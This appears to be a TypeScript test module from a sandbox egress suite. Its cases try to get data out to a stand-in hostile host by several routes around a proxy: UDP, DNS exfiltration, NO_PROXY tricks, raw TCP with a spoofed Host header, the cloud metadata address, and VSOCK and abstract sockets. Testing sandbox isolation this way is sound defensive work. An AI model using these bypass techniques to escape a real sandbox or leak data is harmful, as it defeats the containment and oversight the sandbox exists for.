import { createSocket } from "node:dgram";
import { connect } from "node:net";
import { type Attempt, type BypassCase, type Control, type InsideRunner, Unsent } from "./case.ts";
import { ABSTRACT, ADDRESS, API, EVIL } from "./places.ts";
import { askRelayed, RELAYED } from "./relay.ts";

/** Ways that do not pass the proxy at all: whether they are shut is for the sandbox to show. */
const inside =
  (run: (sandbox: InsideRunner, mark: string) => Promise<unknown>): Attempt["run"] =>
  async (_door, mark, { sandbox }) => {
    if (sandbox === null) throw new Unsent("there is no sandbox");
    return (await run(sandbox, mark)) === "through" ? "through" : undefined;
  };
const script = (name: string, code: (mark: string) => string, env?: Record<string, string>): Attempt => ({
  name,
  run: inside((sandbox, mark) => sandbox.node(code(mark), env)),
});

const TCP = (host: string, mark: string) =>
  `const s = require("net").connect({ host: "${host}", port: 80, timeout: 2000 }, () => s.end("GET /v1/${mark} HTTP/1.1\\r\\nhost: ${API}\\r\\n\\r\\n"));
   s.on("error", (e) => console.log(e.code)).on("timeout", () => s.destroy());`;
const UDP = (port: number, mark: string) =>
  `const s = require("dgram").createSocket("udp4");
   s.send("${mark}", ${port}, "${ADDRESS.evil}", (e) => { console.log(e?.code ?? "sent"); s.close(); });`;
const FETCH = (url: string) =>
  `require("http").get("${url}", (r) => { console.log(r.statusCode); r.resume(); }).on("error", (e) => console.log(e.code));`;

const viaProxy: Control = {
  name: "a program inside reaches the allowed host by the proxy that its environment names",
  run: inside((sandbox, mark) => sandbox.node(FETCH(`http://${API}/v1/${mark}`))) as Control["run"],
  isPassed: ({ by, place }) => by === "request" && place === ADDRESS.api,
};

/** Without it, that nothing arrived from inside would say nothing. */
const instrument = (name: string, send: (mark: string) => Promise<void>, by: string): Control => ({
  name,
  run: (_door, mark) => send(mark),
  isPassed: (sighting) => sighting.by === by,
});

export const INSIDE_CASES: readonly BypassCase[] = [
  {
    number: 12,
    name: "QUIC, and all else over UDP",
    why: "a proxy for TCP sees no datagram",
    needs: ["sandbox"],
    allowed: [viaProxy, instrument("a datagram from outside the sandbox arrives", sendDatagram, "datagram")],
    attempts: [
      script("a datagram to port 443", (mark) => UDP(443, mark)),
      script(
        "a question to a name server of one's own",
        (mark) =>
          `const r = new (require("dns").promises.Resolver)({ timeout: 1000, tries: 1 }); r.setServers(["${ADDRESS.evil}", "127.0.0.1"]);
           r.resolve4("${mark}.${EVIL}").then(console.log, (e) => console.log(e.code));`,
      ),
      script(
        "the system's own look-up",
        (mark) => `require("dns").lookup("${mark}.${EVIL}", (e) => console.log(e?.code));`,
      ),
    ],
  },
  {
    number: 19,
    name: "a relay within the sandbox",
    why: "what is decided by process is decided for whoever that process works for",
    needs: [],
    allowed: [
      {
        name: "an allowed request arrives by way of a relay",
        run: (door, mark) => askRelayed(door, { authority: API, path: `/v1/${mark}` }),
        isPassed: ({ by, place }) => by === "request" && place === ADDRESS.api,
      },
    ],
    attempts: RELAYED,
  },
  {
    number: 20,
    name: "tricks of the environment",
    why: "NO_PROXY, an unset variable or --connect-to, and a client goes round the proxy",
    needs: ["sandbox"],
    allowed: [viaProxy, instrument("a connection from outside the sandbox arrives", sendPlain, "request")],
    attempts: [
      script("NO_PROXY=*", (mark) => FETCH(`http://${EVIL}/v1/${mark}`), { NO_PROXY: "*", no_proxy: "*" }),
      script("no proxy at all", (mark) => FETCH(`http://${ADDRESS.evil}/v1/${mark}`), {
        HTTP_PROXY: "",
        http_proxy: "",
        NODE_USE_ENV_PROXY: "0",
      }),
      script("an address dialed, the allowed name in Host", (mark) => TCP(ADDRESS.evil, mark)),
      script("the allowed host's own address dialed", (mark) => TCP(ADDRESS.api, mark)),
      script("loopback of the machine", (mark) => TCP("127.0.0.1", mark)),
      script("metadata", (mark) => TCP("169.254.169.254", mark)),
      script("IPv6", (mark) => TCP("2002:7f00:1::1", mark)),
    ],
  },
  {
    number: 21,
    name: "other socket families",
    why: "AF_VSOCK leaves a virtual machine whatever the network namespace says, abstract sockets go by another namespace",
    needs: ["sandbox"],
    allowed: [
      viaProxy,
      instrument("an abstract socket is answered outside the sandbox", sendAbstract, "unix"),
      {
        name: "sockets of the internet's family are given inside",
        async run(_door, _mark, { sandbox }) {
          if (!(await sandbox?.opensSocket(2, 1)))
            throw new Error("not even AF_INET is given: the instrument is broken");
        },
        isPassed: () => true,
      },
    ],
    attempts: [
      ...Object.entries({ AF_PACKET: [17, 3], AF_VSOCK: [40, 1], AF_ALG: [38, 5], AF_BLUETOOTH: [31, 3] }).map(
        ([name, [family, type]]): Attempt => ({
          name,
          run: inside(async (sandbox) =>
            (await sandbox.opensSocket(family ?? 0, type ?? 0)) ? "through" : undefined,
          ),
        }),
      ),
      script(
        "an abstract socket of the machine",
        (mark) =>
          `const s = require("net").connect({ path: ${JSON.stringify(ABSTRACT)} }, () => s.end("${mark}")); s.on("error", (e) => console.log(e.code));`,
      ),
    ],
  },
];

async function sendDatagram(mark: string): Promise<void> {
  const socket = createSocket("udp4");
  await new Promise((resolve) => socket.send(mark, 443, ADDRESS.evil, resolve));
  socket.close();
}

function sendPlain(mark: string): Promise<void> {
  return sendTo(
    { host: ADDRESS.evil, port: 80 },
    `GET /v1/${mark} HTTP/1.1\r\nhost: ${API}\r\nconnection: close\r\n\r\n`,
  );
}

function sendAbstract(mark: string): Promise<void> {
  return sendTo({ path: ABSTRACT }, mark);
}

function sendTo(place: { host: string; port: number } | { path: string }, bytes: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(place, () => socket.end(bytes));
    socket
      .resume()
      .once("error", reject)
      .once("close", () => resolve());
  });
}
